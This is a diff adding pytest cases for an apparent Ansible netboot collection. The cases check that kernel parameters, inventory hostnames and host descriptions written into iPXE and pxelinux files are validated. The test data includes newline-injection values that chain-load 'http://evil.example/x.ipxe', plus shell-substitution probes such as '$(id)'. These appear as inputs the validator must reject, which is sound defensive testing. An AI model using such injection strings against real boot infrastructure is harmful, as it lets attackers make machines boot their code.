@@ -211,3 +211,75 @@ def test_missing_boot_vlan_role(example: Any) -> None:
     problems = problems_of(hostvars, groups)
     assert "global: dc_vlan_roles.boot=None: missing: every datacenter needs a management and a boot VLAN" in problems
     assert any(p.startswith("global: dc_vlan_roles.storag=68: unknown VLAN role") for p in problems)
+
+
+# ---- kernel parameters: written into iPXE scripts and pxelinux menus, one directive per line ----
+@pytest.mark.parametrize(
+    ("params", "why"),
+    [
+        ("quiet\nchain http://evil.example/x.ipxe", "characters not allowed: '\\n'"),
+        ("quiet\rchain x", "characters not allowed: '\\r'"),
+        ("quiet\0x", "characters not allowed: '\\x00'"),
+        ("quiet\tx", "characters not allowed: '\\t'"),
+        ('root="x y"', "characters not allowed: '\"'"),
+        ("a='b'", 'characters not allowed: "\'"'),
+        ("quiet #chain x", "characters not allowed: '#'"),
+        ("x=$(id)", "characters not allowed: '$'"),
+        ("x=`id`", "characters not allowed: '`'"),
+        ("a;b", "characters not allowed: ';'"),
+        ("a&b|c<d>e\\f", "characters not allowed: '&' '<' '>' '\\\\' '|'"),
+        ("quiet café", "characters not allowed: 'é'"),
+        ("quiet\u2028chain x", "characters not allowed: '\\u2028'"),
+        ("a" * 5000, "too long: 5000 characters, at most 2047"),
+    ],
+)
+def test_hostile_kernel_params_are_refused(example: Any, params: str, why: str) -> None:
+    hostvars, groups = example
+    hostvars["c4140"]["dc_kernel_params"] = params
+    problems = problems_of(hostvars, groups)
+    assert len(problems) == 1, problems
+    assert problems[0].startswith(f"c4140: dc_kernel_params={params!r}: {why}"), problems
+
+
+def test_hostile_kernel_params_in_a_list_are_refused(example: Any) -> None:
+    hostvars, groups = example
+    hostvars["c4140"]["dc_kernel_params"] = ["quiet", "x\nchain http://evil.example/x.ipxe"]
+    problems = problems_of(hostvars, groups)
+    assert len(problems) == 1 and problems[0].startswith("c4140: dc_kernel_params=['quiet', 'x\\nchain"), problems
+    assert "characters not allowed: '\\n'" in problems[0]
+
+
+def test_kernel_params_at_the_limit_and_usual_forms_pass(example: Any) -> None:
+    hostvars, groups = example
+    usual = "console=ttyS0,115200n8 intel_iommu=on vfio-pci.ids=10de:1db1 rd.break=pre-mount systemd.unit=rescue.target mem=4G@1G x=a+b/c~d_e[0]"
+    hostvars["c4140"]["dc_kernel_params"] = usual
+    hostvars["r640"]["dc_kernel_params"] = "a" * 2047
+    reservations = {r["name"]: r for r in build_model(hostvars, groups)["boot_reservations"]}
+    assert reservations["c4140"]["kernel_params"] == usual
+    assert reservations["r640"]["kernel_params"] == "a" * 2047
+
+
+def test_kernel_params_rule_is_the_filter_the_netboot_preflight_uses() -> None:
+    from ansible_collections.diskless.datacenter.plugins.filter.datacenter_model import FilterModule
+    from ansible_collections.diskless.datacenter.plugins.module_utils._inventory import kernel_params_problem
+
+    rule = FilterModule().filters()["kernel_params_problem"]
+    for value in ["quiet", "quiet\nchain x", "a" * 2048, 'x"y', None]:
+        assert rule(value) == kernel_params_problem(value)
+    preflight = (EXAMPLE.parents[1] / "roles" / "netboot" / "tasks" / "preflight.yml").read_text()
+    assert preflight.count("diskless.datacenter.kernel_params_problem") >= 3
+
+
+@pytest.mark.parametrize("name", ["c4140.x\nchain http://evil.example/x.ipxe", "c4140\n", "c4140.Lab"])
+def test_inventory_hostname_must_be_a_dns_name(example: Any, name: str) -> None:
+    hostvars, groups = example
+    hostvars[name] = hostvars.pop("c4140")
+    groups["diskless_hosts"] = [name if h == "c4140" else h for h in groups["diskless_hosts"]]
+    problems = problems_of(hostvars, groups)
+    assert any(p.startswith(f"{name}: inventory_hostname={name!r}: not") for p in problems), problems
+
+
+def test_description_must_be_one_line(example: Any) -> None:
+    hostvars, groups = example
+    hostvars["r640"]["dc_description"] = "rack 3\nchain http://evil.example/x.ipxe"
+    assert problems_of(hostvars, groups) == ["r640: dc_description='rack 3\\nchain http://evil.example/x.ipxe': must be one line"]
